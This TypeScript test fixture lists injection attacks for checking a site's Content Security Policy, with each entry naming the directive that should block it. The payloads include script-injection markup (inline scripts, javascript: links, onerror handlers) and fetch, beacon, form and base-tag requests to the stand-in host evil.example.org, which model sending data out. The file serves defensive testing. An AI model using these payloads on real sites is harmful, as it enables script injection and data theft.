// What somebody who could write into a page would try, and how each shows that it worked.

/** A host that is not the site's. */
export const ELSEWHERE = 'https://evil.example.org';

/** A file of the site itself that makes code of a text, as a careless library would. */
export const CARELESS = '/assets/careless.js';

export interface Attack {
  readonly name: string;
  /** The directive that must refuse it. */
  readonly refusedBy: string;
  /** The directive of the policy that, were it open, would let it in. */
  readonly openedBy: string;
  /** Markup that is put at the end of the page; what has `data-press` in it is pressed. */
  readonly html?: string;
  /** What is done in the page. */
  readonly run?: () => unknown;
  /** What has happened in the page if it worked; without it a request has left for elsewhere. */
  readonly worked?: () => boolean;
}

const ran = () => 'ran' in window;
const script = { refusedBy: 'script-src-elem', openedBy: 'script-src' };
const connect = { refusedBy: 'connect-src', openedBy: 'connect-src' };

export const ATTACKS: readonly Attack[] = [
  { name: 'a script', ...script, html: '<script>window.ran = 1</script>', worked: ran },
  {
    name: 'a script of another host',
    ...script,
    html: `<script src="${ELSEWHERE}/a.js"></script>`,
  },
  {
    name: 'a module of another host',
    ...script,
    html: `<script type="module" src="${ELSEWHERE}/a.js"></script>`,
  },
  { name: 'a script as data', ...script, html: '<script src="data:,ran=1"></script>', worked: ran },
  {
    name: 'a link that runs',
    ...script,
    html: '<a data-press href="javascript:void (window.ran = 1)">x</a>',
    worked: ran,
  },
  {
    name: 'a frame with a script of its own',
    ...script,
    html: '<iframe srcdoc="<script>parent.ran = 1</script>"></iframe>',
    worked: ran,
  },
  {
    name: 'an attribute that runs',
    refusedBy: 'script-src-attr',
    openedBy: 'script-src',
    html: '<img src="data:," onerror="window.ran = 1">',
    worked: ran,
  },
  {
    name: 'a text that becomes code',
    refusedBy: 'script-src',
    openedBy: 'script-src',
    html: `<script src="${CARELESS}"></script>`,
    worked: ran,
  },
  {
    name: 'a worker made of a text',
    refusedBy: 'worker-src',
    openedBy: 'script-src',
    run: () => {
      const code = `new BroadcastChannel('x').postMessage(1)`;
      new BroadcastChannel('x').onmessage = () => Object.assign(window, { ran: 1 });
      new Worker(URL.createObjectURL(new Blob([code])));
    },
    worked: ran,
  },
  {
    name: 'a style sheet',
    refusedBy: 'style-src-elem',
    openedBy: 'style-src-elem',
    html: '<style>body { outline: 7px solid red }</style>',
    worked: () => getComputedStyle(document.body).outlineWidth === '7px',
  },
  {
    name: 'a style sheet of another host',
    refusedBy: 'style-src-elem',
    openedBy: 'style-src-elem',
    html: `<link rel="stylesheet" href="${ELSEWHERE}/a.css">`,
  },
  {
    name: 'another base',
    refusedBy: 'base-uri',
    openedBy: 'base-uri',
    html: `<base href="${ELSEWHERE}/">`,
    worked: () => document.baseURI.startsWith('https://evil'),
  },
  {
    name: 'a form to another host',
    refusedBy: 'form-action',
    openedBy: 'form-action',
    html: `<form action="${ELSEWHERE}/"><button data-press>x</button></form>`,
  },
  {
    name: 'a frame',
    refusedBy: 'frame-src',
    openedBy: 'frame-src',
    html: `<iframe src="${ELSEWHERE}/"></iframe>`,
  },
  {
    name: 'a picture of another host',
    refusedBy: 'img-src',
    openedBy: 'img-src',
    html: `<img src="${ELSEWHERE}/a.png" alt="">`,
  },
  {
    name: 'a film of another host',
    refusedBy: 'media-src',
    openedBy: 'default-src',
    html: `<video autoplay muted src="${ELSEWHERE}/a.mp4"></video>`,
  },
  {
    name: 'a plug-in',
    refusedBy: 'object-src',
    openedBy: 'default-src',
    html: `<object data="${ELSEWHERE}/a.png" type="image/png"></object>`,
  },
  {
    name: 'a typeface of another host',
    refusedBy: 'font-src',
    openedBy: 'font-src',
    run: () => new FontFace('x', 'url(https://evil.example.org/a.woff2)').load(),
  },
  { name: 'a fetch', ...connect, run: () => fetch('https://evil.example.org/?words') },
  { name: 'a beacon', ...connect, run: () => navigator.sendBeacon('https://evil.example.org/') },
  {
    // Browsers fetch it when they like; the test asks this one to.
    name: 'a manifest of another host',
    refusedBy: 'manifest-src',
    openedBy: 'manifest-src',
    run: () =>
      document
        .querySelector('link[rel=manifest]')
        ?.setAttribute('href', 'https://evil.example.org/a.webmanifest'),
  },
];
